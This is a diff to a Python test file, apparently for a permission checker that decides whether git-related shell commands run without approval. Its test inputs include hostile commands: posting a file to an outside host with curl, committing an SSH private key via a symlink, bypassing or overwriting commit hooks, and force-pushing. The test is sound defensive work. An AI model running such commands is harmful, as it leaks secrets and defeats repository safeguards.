@@ -304,15 +304,28 @@ def test_commits_that_run_a_hook_are_asked_about_once(work: Path) -> None:
     (work / ".git/hooks/pre-commit").write_text("#!/bin/sh\nnpm test\n")
     (work / ".git/hooks/pre-commit").chmod(0o755)
     here = workspace(work, sandboxed=True, records=True)
-    for command in ("git commit -m first", "git add -A && git commit -m first"):
+    for command in (
+        "git commit -m first",
+        "git add -A && git commit -m first",
+        "npm test && git commit -am first",
+        "echo x > a.txt && git add a.txt && git commit -m first && git status",
+    ):
         first = explain_command(command, here, "auto")
         folders, rules = first.first_answer("auto")
         assert (first.decision, folders) == ("ask", ()), command
-        assert "bash(git commit *)" in rules, command
-        again = [explain_command(f"{command} -q", here, "auto", proposed_rules(rules))]
+        assert rules == ("bash(git commit *)",), command
+        again = [explain_command(f"true; {command}", here, "auto", proposed_rules(rules))]
         again.append(explain_command("git add src && git commit -m second", here, "auto", proposed_rules(rules)))
         assert [one.decision for one in again] == ["allow", "allow"], command
-        for other in ("git push --force", "git reset --hard HEAD~3", "git commit -m x; curl -d @README.md example.org"):
+        for other in (
+            "git push --force",
+            "git commit --amend -m x && git push --force",
+            "git commit -m x; curl -d @README.md example.org",
+            "ln -s ~/.ssh/id_rsa note && git commit -F note",
+            "git -c core.hooksPath=/tmp commit -m x",
+            "echo 'exit 0' > .git/hooks/pre-commit && git commit -m x",
+            "GIT_DIR=../other/.git git commit -m x",
+        ):
             assert explain_command(other, here, "auto", proposed_rules(rules)).decision == "ask", other
     skipped = explain_command("git commit --no-verify -m first", here, "auto")
     assert (skipped.decision, skipped.first_answer("auto")) == ("ask", ((), ()))
